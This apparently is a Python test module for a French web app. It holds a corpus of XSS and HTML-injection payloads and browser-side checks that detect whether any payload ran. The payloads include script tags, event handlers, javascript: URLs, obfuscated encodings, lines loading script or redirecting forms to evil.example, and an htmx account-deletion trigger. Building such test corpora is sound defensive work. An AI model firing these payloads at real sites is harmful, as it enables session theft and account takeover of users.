"""A corpus of XSS and HTML-injection payloads, for every test of hostile input.

Each payload, if it were ever interpreted, would either call ``alert``/``confirm``/
``prompt``, set ``window.__xss``, or leave an element carrying a ``data-xss`` attribute
in the page. A browser test can therefore hook those three functions, read
``window.__xss`` and look for ``[data-xss]`` (see ``INIT_SCRIPT`` and ``PAGE_CHECK``).
"""

PAYLOADS: list[str] = [
    # Plain script tags and their variants
    "<script>alert(1)</script>",
    "<script data-xss>window.__xss=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert`1`</script>",
    '"><script>alert(document.domain)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</p></div><script>alert(1)</script>",
    # Event handlers on injected elements
    '<img src=x onerror="alert(1)" data-xss>',
    "<img src=x onerror=alert(1) data-xss>",
    "<svg onload=alert(1) data-xss>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1) data-xss>",
    "<iframe src=javascript:alert(1) data-xss></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>" data-xss></iframe>',
    "<details open ontoggle=alert(1) data-xss>",
    "<video><source onerror=alert(1) data-xss></video>",
    "<audio src=x onerror=alert(1) data-xss>",
    "<input autofocus onfocus=alert(1) data-xss>",
    "<marquee onstart=alert(1) data-xss>x</marquee>",
    "<select autofocus onfocus=alert(1) data-xss></select>",
    "<textarea autofocus onfocus=alert(1) data-xss></textarea>",
    "<keygen autofocus onfocus=alert(1) data-xss>",
    "<div onmouseover=alert(1) data-xss>survolez-moi</div>",
    "<a href=# onclick=alert(1) data-xss>cliquez</a>",
    "<math><mtext><img src=x onerror=alert(1) data-xss></mtext></math>",
    # Attribute breaking, if text were ever put in an attribute
    '" onmouseover="alert(1)" data-xss="',
    "' onfocus='alert(1)' autofocus data-xss='",
    '" autofocus onfocus=alert(1) x="',
    "`onmouseover=alert(1)`",
    # URLs with dangerous schemes
    "javascript:alert(1)",
    '<a href="javascript:alert(1)" data-xss>lien</a>',
    '<a href="JaVaScRiPt:alert(1)" data-xss>lien</a>',
    "<a href=&#106;avascript:alert(1) data-xss>lien</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" data-xss>lien</a>',
    "<a href='vbscript:msgbox(1)' data-xss>lien</a>",
    'Voir https://exemple.fr/"><script>alert(1)</script>',
    "Voir http://exemple.fr/?q=<img src=x onerror=alert(1) data-xss>",
    'www.exemple.fr/" onclick="alert(1)',
    # Encoded, obfuscated, and parser-confusion tricks
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<!--<img src=--><img src=x onerror=alert(1) data-xss>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1) data-xss>">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))" data-xss>x</div>',
    "<base href=//evil.example/ data-xss>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)" data-xss>',
    "<form action=//evil.example data-xss><button>Envoyer</button></form>",
    '<object data="javascript:alert(1)" data-xss></object>',
    '<embed src="javascript:alert(1)" data-xss>',
    "<template><script>alert(1)</script></template>",
    '<link rel=import href="//evil.example" data-xss>',
    # Template and framework injection
    "{{ 7*7 }} {% debug %} {{ request.user.password }}",
    "${alert(1)}",
    '<div hx-get="/contributions/" hx-trigger="load" data-xss>htmx</div>',
    '<div hx-on:click="alert(1)" data-xss>htmx</div>',
    '<a hx-post="/mon-espace/compte/supprimer/" hx-trigger="load" data-xss>x</a>',
    # Markdown-looking input stays plain text
    "[cliquez](javascript:alert(1)) ![img](x onerror=alert(1))",
    # Unicode and control characters around markup
    "\u202e<script>alert(1)</script>\u202c",
    "＜script＞alert(1)＜/script＞",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "<img src=x\tonerror=alert(1) data-xss>",
]

#: Run before any page script: counts every way a payload could report it ran.
INIT_SCRIPT = """
window.__xss = 0;
for (const name of ["alert", "confirm", "prompt"]) {
  window[name] = function () { window.__xss += 1; };
}
"""

#: Evaluated on a page: what a payload left behind (empty when the page is clean).
PAGE_CHECK = """
() => {
  const problems = [];
  if (window.__xss) problems.push("script ran " + window.__xss + " time(s)");
  const injected = e => problems.push("injected <" + e.tagName + ">");
  document.querySelectorAll("[data-xss]").forEach(injected);
  for (const el of document.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith("on")) problems.push("handler " + name + " on <" + el.tagName + ">");
      if (["href", "src", "action", "formaction", "data"].includes(name)
          && /^\\s*(javascript|vbscript|data:text)/i.test(attr.value)) {
        problems.push(name + "=" + attr.value.slice(0, 40));
      }
    }
  }
  document.querySelectorAll("script").forEach(s => {
    const src = s.getAttribute("src") || "";
    if (!src.startsWith("/static/")) problems.push("foreign script " + src.slice(0, 40));
  });
  const foreign = "iframe, object, embed, base, meta[http-equiv], template, link[rel=import]";
  document.querySelectorAll(foreign).forEach(injected);
  return problems;
}
"""

assert len(PAYLOADS) >= 50
